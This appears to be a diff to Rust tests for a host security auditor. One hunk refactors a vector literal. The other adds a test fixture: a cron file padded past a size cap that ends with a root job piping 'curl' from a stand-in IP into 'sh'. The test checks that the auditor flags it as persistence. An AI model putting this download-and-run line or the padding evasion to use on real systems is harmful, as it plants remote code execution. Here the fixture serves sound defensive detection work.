@@ -194,12 +194,13 @@ fn a_hostile_glob_pattern_takes_linear_time() {
 
 #[test]
 fn the_load_honours_cancellation_and_the_time_budget() {
-    let mut files: Vec<(String, Vec<u8>)> = Vec::new();
-    files.push((
-        "etc/ssh/sshd_config".into(),
-        b"Include /etc/ssh/a.conf\nPermitRootLogin yes\n".to_vec(),
-    ));
-    files.push(("etc/ssh/a.conf".into(), b"X11Forwarding yes\n".to_vec()));
+    let files: Vec<(String, Vec<u8>)> = vec![
+        (
+            "etc/ssh/sshd_config".into(),
+            b"Include /etc/ssh/a.conf\nPermitRootLogin yes\n".to_vec(),
+        ),
+        ("etc/ssh/a.conf".into(), b"X11Forwarding yes\n".to_vec()),
+    ];
     let refs: Vec<(&str, &[u8])> = files
         .iter()
         .map(|(p, b)| (p.as_str(), b.as_slice()))
@@ -273,4 +274,40 @@ fn a_terminal_escape_in_a_value_is_escaped_in_the_error() {
         let shown = format!("{f} {:?} {:?}", f.detail, f.remediation);
         assert!(!shown.contains('\x1b'), "raw escape in {shown}");
     }
+}
+
+#[test]
+fn a_cron_file_padded_past_the_cap_is_still_checked_and_reported() {
+    // 5 MiB of comment padding, then a download-and-run job: once skipped with only an error.
+    let mut body = b"# maintenance\n".repeat((5 << 20) / 14);
+    body.extend_from_slice(&vec![b' '; 100_000]); // an overlong blank line too
+    body.extend_from_slice(b"\n*/5 * * * * root curl -s http://203.0.113.7/x | sh\n");
+    let (_t, root) = root_with(&[("etc/cron.d/zz-padded", &body)]);
+    let (out, took) = sshd_audit(&root, &Control::new());
+    assert!(took < LIMIT, "took {took:?}");
+    let found = ids(&out);
+    assert!(
+        found.contains(&"persistence.cron-download-exec"),
+        "{found:?} {:?}",
+        out.errors
+    );
+    assert!(found.contains(&"persistence.oversized-file"), "{found:?}");
+    let hit = out
+        .findings
+        .iter()
+        .find(|f| f.id == "persistence.cron-download-exec")
+        .unwrap();
+    let want_line = body.split(|&b| b == b'\n').count() as u64 - 1;
+    assert_eq!(
+        hit.evidence[0].line,
+        Some(want_line),
+        "line numbers survive"
+    );
+    // A normal-sized cron file gives no oversized finding.
+    let (_t2, root2) = root_with(&[(
+        "etc/cron.d/job",
+        b"*/5 * * * * root /usr/bin/true\n".as_slice(),
+    )]);
+    let (out2, _) = sshd_audit(&root2, &Control::new());
+    assert!(!ids(&out2).contains(&"persistence.oversized-file"));
 }
